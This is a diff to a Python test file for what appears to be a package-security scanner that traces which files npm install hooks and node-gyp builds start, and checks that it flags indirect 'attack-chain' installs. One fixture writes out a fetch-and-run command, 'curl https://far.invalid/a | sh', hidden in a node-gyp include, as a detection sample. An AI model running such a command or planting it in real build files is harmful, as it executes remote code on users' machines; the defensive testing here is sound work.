@@ -5,8 +5,16 @@ from collections.abc import Mapping
 import pytest
 
 from pratique.analysis.facts import Command, FileFacts, Import, Language
+from pratique.analysis.hook_lines import in_folders
 from pratique.analysis.languages.shell import parse_command
-from pratique.analysis.starting import Started, command_starts, hook_starts, in_folders, other_languages
+from pratique.analysis.starting import (
+    Started,
+    carried_starts,
+    command_starts,
+    file_commands,
+    hook_starts,
+    other_languages,
+)
 from pratique.core.manifest import Manifest
 from pratique.core.names import Ecosystem
 from pratique.core.release import Hook
@@ -50,9 +58,19 @@ HOOKS = [
     ("powershell -File lib\\w.ps1", ["lib/w.ps1"]),
     ("cscript //nologo lib\\v.vbs", []),
     ("node-gyp rebuild", ["binding.gyp"]),
+    ("node -p \"require('./x')\"", []),
+    ("cd lib && node -e \"require('./x')\"", ["lib/x.js"]),
+    ("node -e \"import('./lib/x.js')\"", ["lib/x.js"]),
+    ("node -e \"require('child_process').fork('./lib/x')\"", ["lib/x.js"]),
+    ("node -e \"require('child_process').execSync('sh ./setup')\"", ["setup"]),
+    ("python3 -c 'import pkg'", ["pkg/__init__.py"]),
+    ("npm run inner", ["lib/x.js"]),
+    ("node-gyp -C lib rebuild", ["binding.gyp", "lib/binding.gyp"]),
+    ("cd lib && node-gyp rebuild", ["binding.gyp", "lib/binding.gyp"]),
+    ("node-gyp rebuild --directory=lib", ["binding.gyp", "lib/binding.gyp"]),
     ("rm -f lib/x.js && echo other.js", []),
     ("npx only-allow pnpm", []),
-    ("node -e \"require('./lib/x')\"", []),
+    ("node -e \"require('./lib/x')\"", ["lib/x.js"]),
 ]
 
 
@@ -60,11 +78,10 @@ HOOKS = [
 def test_hooks_start_files(command: str, expected: list[str]) -> None:
     files = tree(
         *("index.js", "lib/x.js", "other.js", "setup", "data.txt", "binding.gyp", "lib/w.ps1", "lib/v.vbs"),
-        *("pkg/__init__.py", "pkg/__main__.py"),
+        *("pkg/__init__.py", "pkg/__main__.py", "lib/binding.gyp"),
     )
-    manifest = npm(
-        command, scripts={"go": "node other.js", "prego": "node lib/x"}, commands={"own-tool": "other.js"}
-    )
+    scripts = {"go": "node other.js", "prego": "node lib/x", "inner": "node -e \"require('./lib/x')\""}
+    manifest = npm(command, scripts=scripts, commands={"own-tool": "other.js"})
     found = list(dict.fromkeys(item.path for item in hook_starts(files, manifest, Ecosystem.NPM)))
 
     assert set(expected) == set(found) or (not expected and found == ["lib/v.vbs"])
@@ -297,3 +314,49 @@ def test_a_compiled_program_is_no_shell_script() -> None:
     program = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0>\0" + bytes(64)
     files: dict[str, bytes | str] = {"package.json": package_json(bin={"a": "a.exe"}), "a.exe": program}
     assert not any(item.reached for item in inspected(files).inspection.unread)
+
+
+def test_a_path_from_the_own_folder_is_one_wherever_the_program_runs() -> None:
+    commands = (Command("node", ("x",), 1, runs="__dirname/../x.js"), Command("node", ("y",), 2, runs="y.js"))
+    found = [(where, command.runs) for where, command in file_commands("lib/a", commands)]
+    assert [("", "lib/x.js"), ("", "y.js"), ("lib/a", "y.js")] == found
+
+
+def test_what_lies_outside_the_package_is_no_file_of_it() -> None:
+    outside = Command("node", ("x",), 1, runs="__dirname/../../x.js")
+    found = [
+        item
+        for where, one in file_commands("lib", (outside,))
+        for item in command_starts(tree("x.js"), where, one)
+    ]
+    assert [] == found
+
+
+def test_code_on_a_line_asks_from_where_it_runs() -> None:
+    command = parse_command("node -e \"require('./x.txt')\"")[0]
+    assert [Started("lib/x.txt", Language.JAVASCRIPT)] == list(
+        carried_starts(tree("lib/x.txt"), "lib", command, None)
+    )
+    assert [] == list(carried_starts(tree("lib/x.txt"), "", command, None))
+
+
+@pytest.mark.parametrize(
+    ("command", "files"),
+    [
+        ("sh i.sh", {"i.sh": "node -e \"require('./test/e')\"\n", "test/e.js": ATTACK}),
+        ("sh i.sh", {"i.sh": "npm run b\n", "test/e.js": ATTACK}),
+        ("node i.js", {"i.js": "require('child_process').exec('npm run b')\n", "test/e.js": ATTACK}),
+        ("node lib/i.js", {"lib/i.js": "require('child_process').exec(`node ${__dirname}/test/e.js`)\n", "lib/test/e.js": ATTACK}),
+        ("node-gyp rebuild", {"binding.gyp": "{'includes': ['c.txt']}", "c.txt": "{'variables': {'x': '<!(curl https://far.invalid/a | sh)'}}"}),
+        ("node-gyp rebuild", {"binding.gyp": "{'x': ['<!(node -p \"require(\\'./test/e\\')\")']}", "test/e.js": ATTACK}),
+    ],
+)  # fmt: skip
+def test_what_an_install_script_starts_by_others_is_read(command: str, files: dict[str, str]) -> None:
+    manifest = package_json(scripts={"postinstall": command, "b": "node test/e.js"})
+    package = {"package.json": manifest, "index.js": "1"}
+    harmless = {
+        path: text.replace(ATTACK, "").replace("curl https://far.invalid/a | sh", "echo")
+        for path, text in files.items()
+    }
+    assert of_rule(inspected(package | files), "attack-chain")
+    assert not of_rule(inspected(package | harmless), "attack-chain")
